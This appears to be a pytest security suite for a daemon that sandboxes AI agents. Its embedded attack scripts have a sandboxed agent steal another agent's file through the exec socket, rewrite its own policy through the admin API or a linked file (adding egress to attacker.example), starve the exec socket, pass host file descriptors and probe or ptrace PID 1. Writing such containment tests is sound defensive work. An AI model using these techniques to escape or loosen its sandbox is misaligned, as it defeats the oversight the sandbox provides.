"""Security review of exec, metrics and hot reload: each test is an attack
run from inside a sandbox (or by another local user), and asserts that it
fails and that the audit log says why.

Tests marked FAILS-TODAY reproduce findings of the review: they fail on
the code as reviewed and pass once the finding is fixed.
"""
import json
import os
import signal
import subprocess

import pytest

from conftest import IS_ROOT, PINCER, TEST_USER, Identity
from test_daemon import Daemon, daemon, sh, wait_for  # noqa: F401
from test_daemon_exec import exec_cli, exec_ready, raw_exec, start_agent


def deny_records(d, name):
    return [x for x in d.records() if x.get("decision") == "deny"
            and (x.get("agent") == name or name in x.get("reason", ""))]


def exec_allowed(d, name):
    return [x for x in d.records() if x.get("type") == "exec" and x.get("agent") == name
            and x.get("decision") == "allow"]


# ---- a sandbox reaching its daemon's sockets (FAILS-TODAY as pincer-test) ------

ATTACK = r'''
import json, os, select, socket, sys
S, victim, me, widened = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
res = {}
try:  # a process in the victim's sandbox, through the exec socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.settimeout(30)
    s.connect(S + ".exec")
    r, w = os.pipe()
    req = {"op": "exec", "agent": victim, "argv": ["cat", sys.argv[5]]}
    socket.send_fds(s, [json.dumps(req).encode()], [r, w, w])
    os.close(w)
    recs = []
    while True:
        m = s.recv(65536)
        if not m:
            break
        recs.append(json.loads(m))
        if "exited" in recs[-1] or "error" in recs[-1]:
            break
    res["exec"] = recs
    out = b""
    while select.select([r], [], [], 5)[0]:
        b = os.read(r, 4096)
        if not b:
            break
        out += b
    res["stolen"] = out.decode(errors="replace")
except Exception as e:
    res["exec_error"] = repr(e)

def http(method, path, body=None):
    a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    a.settimeout(30)
    a.connect(S)
    data = json.dumps(body).encode() if body is not None else b""
    a.sendall(f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
              f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
              .encode() + data)
    got = b""
    while True:
        b = a.recv(65536)
        if not b:
            break
        got += b
    head, _, rest = got.partition(b"\r\n\r\n")
    return int(head.split()[1]), rest.decode(errors="replace")

try:  # its own policy widened through the API
    res["health"] = http("GET", "/v1/health")
    res["put"] = http("PUT", f"/v1/agents/{me}/policy", {"policy": widened})
except Exception as e:
    res["api_error"] = repr(e)
with open("attack.json.new", "w") as f:
    json.dump(res, f)
os.rename("attack.json.new", "attack.json")
'''


def test_a_sandbox_cannot_reach_its_daemon_through_a_granted_folder(pincer):
    """FAILS-TODAY (as pincer-test): the daemon knows callers by SO_PEERCRED
    uid only, and a user's daemon runs its agents' sandboxes as that very
    uid. A policy that grants (even read-only) the folder of the daemon's
    socket (e.g. $XDG_RUNTIME_DIR, for a session bus) lets the agent exec
    in the user's other agents (their folders, their credentials) and, as
    the daemon's admin, rewrite its own policy. Fixed: the sandbox cannot
    steer the daemon (its sockets hidden like the run's own control socket,
    or callers inside a sandbox refused), and the refusal is recorded."""
    ident = pincer
    d = Daemon(ident)
    rt = ident.mkdir("rt", mode=0o755)  # the socket's folder, like $XDG_RUNTIME_DIR
    d.socket = rt / "pincer.sock"
    d.start()
    try:
        secret_dir = ident.mkdir("victim-only")
        ident.write("victim-only/data", "victim-only-data\n")
        victim_pol = ident.write("victim.yaml", "version: 1\nname: victim\nfilesystem:\n"
                                 f"  read_write: [{ident.proj}, {secret_dir}]\n")
        start_agent(d, "victim-bot", policy=victim_pol)
        exec_ready(d, "victim-bot")

        widened = ("version: 1\nname: sneaky\nfilesystem:\n"
                   f"  read_write: [{ident.proj}, {secret_dir}]\n")
        ident.write("proj/attack.py", ATTACK)
        sneaky_pol = ident.write("sneaky.yaml", "version: 1\nname: sneaky\nfilesystem:\n"
                                 f"  read_write: [{ident.proj}]\n  read_only: [{rt}]\n")
        r = d.create("sneaky-bot", *sh(
            f"cd {ident.proj} && python3 attack.py {d.socket} victim-bot sneaky-bot '{widened}' "
            f"{secret_dir}/data; exec sleep 300"), policy=sneaky_pol, start=False)
        assert r.returncode == 0, r.stderr
        sha_before = d.show("sneaky-bot")["policy_sha256"]
        r = d.cli("start", "sneaky-bot")

        # either the run refuses the grant (its log says why) or the attack
        # runs to its end: which one shows a moment after the start
        def refused():
            return "pincer.sock" in (r.stderr + d.cli("logs", "sneaky-bot").stdout)

        wait_for(lambda: r.returncode != 0 or refused() or (ident.proj / "attack.json").exists(),
                 60, "the run to refuse the grant or the agent's attack to finish")
        if not (ident.proj / "attack.json").exists():
            assert refused(), r.stderr
            return
        res = json.loads((ident.proj / "attack.json").read_text())

        assert "victim-only-data" not in res.get("stolen", ""), \
            f"a sandbox ran a process in another agent's sandbox: {res}"
        assert not any("started" in x for x in res.get("exec", [])), res
        assert not exec_allowed(d, "victim-bot") or all(
            x.get("by") == ident.name and "cat" not in x.get("argv", "")
            for x in exec_allowed(d, "victim-bot")), "no exec of the agent's in the victim"
        if "health" in res:
            assert '"admin":true' not in res["health"][1].replace(" ", ""), \
                f"the sandbox is the daemon's admin: {res['health']}"
        if "put" in res:
            assert res["put"][0] != 200, f"the sandbox set its own policy: {res['put']}"
        assert d.show("sneaky-bot")["policy_sha256"] == sha_before, "its policy changed"
        assert not any(x.get("type") == "policy" and "set by" in x.get("reason", "")
                       and "sneaky-bot" in x.get("reason", "") for x in d.records())
        # the refusal is recorded
        wait_for(lambda: deny_records(d, "victim-bot"), 10,
                 "a deny record of the exec in victim-bot")
    finally:
        d.cleanup()


# ---- the exec socket starved by another user (FAILS-TODAY) ------------------------

HOLD = r'''
import socket, sys, time
socks = []
for i in range(int(sys.argv[2])):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.connect(sys.argv[1])
    except OSError:
        break
    socks.append(s)
print(len(socks), flush=True)
sys.stdin.read()  # held until the test closes our stdin
'''


@pytest.mark.skipif(not IS_ROOT, reason="needs two identities")
def test_another_users_idle_connections_do_not_starve_exec():
    """FAILS-TODAY: the daemon relays at most 512 exec connections, for
    every user together, and a connection that has sent nothing holds a
    place for 10 s. An ordinary user holding 520 idle connections (and
    reconnecting) keeps everyone else, admins included, from exec; the
    refusal ("relays too many execs") is not recorded. Fixed: a per-user
    share, so that root's exec still runs."""
    root = Identity("root")
    user = Identity("user")
    d = Daemon(root, admins=["root"], users={0: "root", user.uid: TEST_USER})
    holder = None
    try:
        d.start()
        start_agent(d, "root-bot", user="root")
        exec_ready(d, "root-bot")
        holder = subprocess.Popen(user.prefix + ["/usr/bin/python3", "-c", HOLD,
                                                 str(d.socket) + ".exec", "520"],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                                  env=user.env())
        held = int(holder.stdout.readline())
        assert held >= 512, f"the user could open only {held} connections"
        r = exec_cli(d, "root-bot", "echo", "still-served")
        assert (r.returncode, r.stdout) == (0, "still-served\n"), \
            f"another user's idle connections kept root from exec: {r.stderr}"
        wait_for(lambda: [x for x in exec_allowed(d, "root-bot") if x.get("by") == "root"],
                 10, "the exec's record")
    finally:
        if holder:
            holder.stdin.close()
            holder.wait(timeout=30)
        d.cleanup()
        root.cleanup()
        user.cleanup()


# ---- descriptors that are not anonymous pipes (FAILS-TODAY) ---------------------

@pytest.mark.parametrize("kind", ["o_path", "named_fifo"])
def test_exec_takes_only_anonymous_pipes(daemon, kind):
    """FAILS-TODAY: the pipe check is S_ISFIFO, which an O_PATH descriptor of
    a FIFO on the host, or a named FIFO opened there, passes: the sandbox
    then holds a descriptor of the host's filesystem (its path and mount
    show in /proc/self/fd and fdinfo), which control.h promises never
    happens. Fixed: refused (a pipefs pipe only, not O_PATH) and recorded."""
    d = daemon
    if d.ident.uid != os.geteuid():
        pytest.skip("raw socket clients run as the test's own uid")
    start_agent(d, "fd-bot")
    exec_ready(d, "fd-bot")
    fifo = d.ident.work / "host-fifo"
    os.mkfifo(fifo)
    fd = os.open(fifo, os.O_PATH if kind == "o_path" else os.O_RDWR | os.O_NONBLOCK)
    r, w = os.pipe()
    try:
        req = {"op": "exec", "agent": "fd-bot",
               "argv": ["/bin/sh", "-c", "readlink /proc/self/fd/0"]}
        seen = len(deny_records(d, "fd-bot"))
        s, ans = raw_exec(d.socket, req, [fd, w, w])
        recs = [ans]
        while ans and "error" not in ans and "exited" not in ans:
            m = s.recv(65536)
            ans = json.loads(m) if m else None
            recs.append(ans)
        s.close()
        os.close(w)
        w = -1
        out = os.read(r, 4096).decode() if "started" in recs[0] else ""
        assert str(fifo) not in out, f"a host FIFO entered the sandbox as stdin: {out!r}"
        assert recs[0].get("status") == 400 and "pipe" in recs[0]["error"], recs
        wait_for(lambda: len(deny_records(d, "fd-bot")) > seen, 10, "the refusal's record")
        assert "not a pipe" in deny_records(d, "fd-bot")[-1]["reason"]
    finally:
        for x in (fd, r, w):
            if x >= 0:
                os.close(x)


# ---- hot reload of a policy the agent can write (FAILS-TODAY) -----------------------

REWRITE = r'''
import os, sys, time
pol = sys.argv[1]
text = open(pol).read().replace("pids: 64", "pids: 4096")
text += "network:\n  egress:\n    allow:\n      - host: attacker.example\n"
with open(pol, "w") as f:   # in place: the same inode (a hard link sees it too)
    f.write(text)
open("written", "w").close()
while not os.path.exists("done"):
    time.sleep(0.05)
'''


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_reload_refuses_a_policy_the_agent_reaches_through_a_link(pincer, link):
    """FAILS-TODAY: box_policy_writable_by_agent looks at the folder that
    names the policy file, not at the file read: a policy named in a folder
    of its own but linked (symlink or hard link) into the agent's read-write
    folder is rewritten by the agent and taken at the next SIGHUP: raised
    limits, new egress, and since this change new credentials (a secret of
    the user's injected toward a host the agent names). Fixed: refused,
    with a deny policy record."""
    ident = pincer
    ident.mkdir("pol")
    target = ident.write("proj/p.yaml", "version: 1\nname: linked\nfilesystem:\n"
                         f"  read_write: [{ident.proj}]\nprocess:\n  limits:\n    pids: 64\n")
    named = ident.work / "pol" / "p.yaml"
    if link == "symlink":
        os.symlink(target, named)
    else:
        os.link(target, named)
    ident.write("proj/rewrite.py", REWRITE)
    proc = ident.popen("--policy", str(named), "--", "python3", "rewrite.py", str(target),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: (ident.proj / "written").exists() or proc.poll() is not None, 60,
                 "the agent to rewrite its policy")
        assert proc.poll() is None, proc.communicate()
        seen = len(ident.records())
        os.kill(proc.pid, signal.SIGHUP)
        rec = wait_for(lambda: next((x for x in ident.records()[seen:]
                                     if x["type"] == "policy"), None), 60,
                       "the reload's policy record")
        assert rec["decision"] == "deny" and "its own policy" in rec["reason"], \
            f"a policy the agent wrote was applied: {rec['reason']}"
        assert "attacker.example" not in json.dumps(ident.records()[seen:])
    finally:
        ident.write("proj/done", "")
        try:
            proc.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.communicate()


# ---- PID 1 while an exec runs (passes) ---------------------------------------------

PROBE = r'''
import ctypes, json, os, signal, time
while not os.path.exists("go"):
    time.sleep(0.05)
res = {}
for f in ["environ", "mem", "maps", "cwd", "root"]:
    try:
        p = f"/proc/1/{f}"
        res[f] = os.readlink(p) if f in ("cwd", "root") else open(p, "rb").read(64).hex()
    except OSError as e:
        res[f] = e.errno
try:
    res["fd"] = os.listdir("/proc/1/fd")
except OSError as e:
    res["fd"] = e.errno
libc = ctypes.CDLL(None, use_errno=True)
res["ptrace"] = (libc.ptrace(16, 1, 0, 0), ctypes.get_errno())  # PTRACE_ATTACH
for sig in (signal.SIGKILL, signal.SIGSEGV, signal.SIGSTOP, signal.SIGCHLD):
    try:
        os.kill(1, sig)
    except OSError:
        pass
res["cmdline"] = open("/proc/1/cmdline", "rb").read().decode(errors="replace")
with open("probe.json.new", "w") as f:
    json.dump(res, f)
os.rename("probe.json.new", "probe.json")
'''


def test_the_agent_cannot_reach_into_pid1_while_an_exec_runs(daemon):
    """PID 1 holds the exec's pipes and its request (a memfd) and is a copy
    of the run's memory: the agent may not read it, trace it, or kill it,
    and the exec it serves goes on and is recorded (start, then end)."""
    d = daemon
    d.ident.write("proj/probe.py", PROBE)
    start_agent(d, "probe-bot", f"cd {d.ident.proj} && python3 probe.py; exec sleep 300")
    exec_ready(d, "probe-bot")
    long_exec = subprocess.Popen(
        d.ident.prefix + [PINCER, "agent", "exec", "probe-bot", "--socket", str(d.socket), "-i", "--",
                          "cat"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env=d.ident.env(), text=True)
    try:
        wait_for(lambda: [x for x in exec_allowed(d, "probe-bot") if '"cat"' in x["argv"]],
                 30, "the long exec to start")
        d.ident.write("proj/go", "")
        res = json.loads(wait_for(lambda: (d.ident.proj / "probe.json").exists() and
                                  (d.ident.proj / "probe.json").read_text(), 60,
                                  "the agent's probe"))
        for f in ["environ", "mem", "maps", "cwd", "root", "fd"]:
            assert isinstance(res[f], int), f"/proc/1/{f} readable by the agent: {res[f]}"
        assert res["ptrace"][0] == -1, "the agent attached to PID 1"
        out, err = long_exec.communicate("still-here\n", timeout=60)
        assert (long_exec.returncode, out) == (0, "still-here\n"), err
        r = exec_cli(d, "probe-bot", "true")
        assert r.returncode == 0, r.stderr
        ends = wait_for(lambda: [x for x in d.records() if x.get("type") == "exec"
                                 and x.get("agent") == "probe-bot" and '"cat"' in x["argv"]
                                 and "code" in x], 10, "the exec's end record")
        assert ends[0]["code"] == 0 and ends[0]["by"] == d.ident.name
    finally:
        if long_exec.poll() is None:
            long_exec.kill()
            long_exec.communicate()
